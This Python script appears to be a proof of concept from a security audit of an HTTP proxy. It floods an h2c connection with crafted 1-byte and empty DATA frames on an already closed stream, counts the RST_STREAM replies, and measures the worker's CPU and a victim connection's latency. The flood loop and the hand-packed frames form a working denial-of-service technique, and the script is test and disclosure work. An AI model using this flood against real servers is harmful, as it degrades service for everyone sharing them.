"""Finding 1: DATA frames on a closed stream spend no budget, and h2 answers each with an
RST_STREAM (plus a WINDOW_UPDATE now and then): a reflection flood the frame budgets miss.

One h2c connection: stream 1 is a GET, answered and closed.  Then, for 2 s, the client
writes 1-byte DATA frames on stream 1 (10 bytes each, 60 KB a write every 20 ms);
then 2 s of empty DATA frames with END_STREAM (9 bytes each).  A victim
on another connection of the same (only) worker does keep-alive HTTP/1.1 GETs meanwhile.
Printed: frames sent, frames the proxy sent back by type, GOAWAY or not, the worker's CPU,
the victim's latencies before and during."""

import socket
import statistics
import struct
import threading

import psutil
from h import Backend, Client, arm, show, start_proxy, time

arm(60)
backend = Backend()
proxy = start_proxy([{"path": "/", "to": backend.url + "/"}])
worker = psutil.Process(proxy.worker_pids()[0])


def victim(seconds: float) -> list:
    lat = []
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as s:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            t = time.monotonic()
            s.sendall(b"GET /v HTTP/1.1\r\nHost: v\r\n\r\n")
            got = b""
            while not got.endswith(b"ok"):
                got += s.recv(4096)
            lat.append((time.monotonic() - t) * 1000)
            time.sleep(0.01)
    return lat


idle = victim(1.0)
client = Client(proxy.port)
sid = client.get(b"/x")
show("stream 1", client.response(sid).summary()[:70])
VARIANTS = {"1-byte DATA": struct.pack(">BHBBL", 0, 1, 0x0, 0x0, sid) + b"x",
            "empty DATA with END_STREAM": struct.pack(">BHBBL", 0, 0, 0x0, 0x1, sid)}
for name, frame in VARIANTS.items():
    burst = frame * 6000
    during = []
    t = threading.Thread(target=lambda: during.extend(victim(2.0)))
    t.start()
    client.sock.setblocking(False)
    sent = 0
    received = bytearray()
    cpu0, t0 = sum(worker.cpu_times()[:2]), time.monotonic()
    while time.monotonic() - t0 < 2.0:
        try:
            sent += client.sock.send(burst)
        except BlockingIOError:
            pass
        while True:
            try:
                data = client.sock.recv(1 << 20)
            except BlockingIOError:
                break
            if not data:
                show("connection", "closed by the proxy")
                break
            received += data
        time.sleep(0.02)
    cpu = sum(worker.cpu_times()[:2]) - cpu0
    t.join()
    kinds, pos = {}, 0
    names = {3: "RST_STREAM", 7: "GOAWAY", 8: "WINDOW_UPDATE", 0: "DATA", 1: "HEADERS", 6: "PING", 4: "SETTINGS"}
    while pos + 9 <= len(received):
        length = received[pos] << 16 | received[pos + 1] << 8 | received[pos + 2]
        kind = names.get(received[pos + 3], received[pos + 3])
        kinds[kind] = kinds.get(kind, 0) + 1
        pos += 9 + length
    print(f"-- {name} frames on closed stream 1, for 2 s --")
    show("frames sent", sent // len(frame))
    show("frames the proxy sent back", kinds)
    show("worker CPU during the 2 s", f"{cpu:.2f} s")
    show("victim latency idle (median / worst ms)", f"{statistics.median(idle):.1f} / {max(idle):.1f}")
    show("victim latency during (median / worst ms)", f"{statistics.median(during):.1f} / {max(during):.1f}")
    show("GOAWAY sent", "yes" if "GOAWAY" in kinds else "no")
